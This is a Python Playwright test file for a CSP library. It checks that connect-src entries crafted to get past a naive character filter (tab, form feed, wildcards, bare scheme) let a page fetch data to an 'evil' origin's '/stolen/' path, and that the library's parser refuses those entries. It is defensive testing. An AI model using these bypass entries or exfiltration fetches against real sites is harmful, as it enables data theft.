"""W03 in a real browser: entries that open a policy built from texts, and that the parser refuses."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import async_playwright

from cloche import Csp
from cloche.errors import RegistrationError
from tests.support.chromium import FLAGS
from tests.support.file_site import Site
from tools.chromium import chromium

ATTACKS = {
    "tab": "https://a.example\t{evil}",
    "form feed": "https://a.example\f{evil}",
    "star": "*",
    "scheme": "http:",
    "star with any port": "http://*:*",
    "any port": "http://127.0.0.1:*",
}
"""Entries that get past a list of forbidden characters; `{evil}` is the origin that data is sent to."""

SEND = "address => fetch(address, { mode: 'no-cors' }).then(() => true, () => false)"


def policy_of(entries: list[str]) -> str:
    """The policy as a host builds it that only drops what holds a forbidden character."""
    kept = [entry for entry in entries if not re.search(r"[;\r\n'\" ]", entry)]
    return f"default-src 'none'; connect-src {' '.join(kept)}"


async def test_an_entry_that_opens_the_policy_is_refused_before_a_host_sees_it() -> None:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=str(chromium()), args=FLAGS)
        with Site() as evil, Site() as site:
            site.add("/view.html", b"<!doctype html><p>a view</p>")
            outcomes = {}
            for name, attack in {**ATTACKS, "honest": "https://a.example"}.items():
                entry = attack.format(evil=evil.url)
                site.policy = policy_of([entry])
                page = await browser.new_page()
                await page.goto(f"{site.url}/view.html")
                left = await page.evaluate(SEND, f"{evil.url}/stolen/{name}")
                outcomes[name] = left and f"/stolen/{name.replace(' ', '%20')}" in evil.missed
                await page.close()
            honest = policy_of(list(Csp(connect=["https://a.example"]).as_meta()["connectDomains"]))
        await browser.close()
    assert outcomes == {**dict.fromkeys(ATTACKS, True), "honest": False}
    assert honest == "default-src 'none'; connect-src https://a.example"
    for attack in ATTACKS.values():
        with pytest.raises(RegistrationError, match="is not taken"):
            Csp(connect=[attack.format(evil=evil.url)])
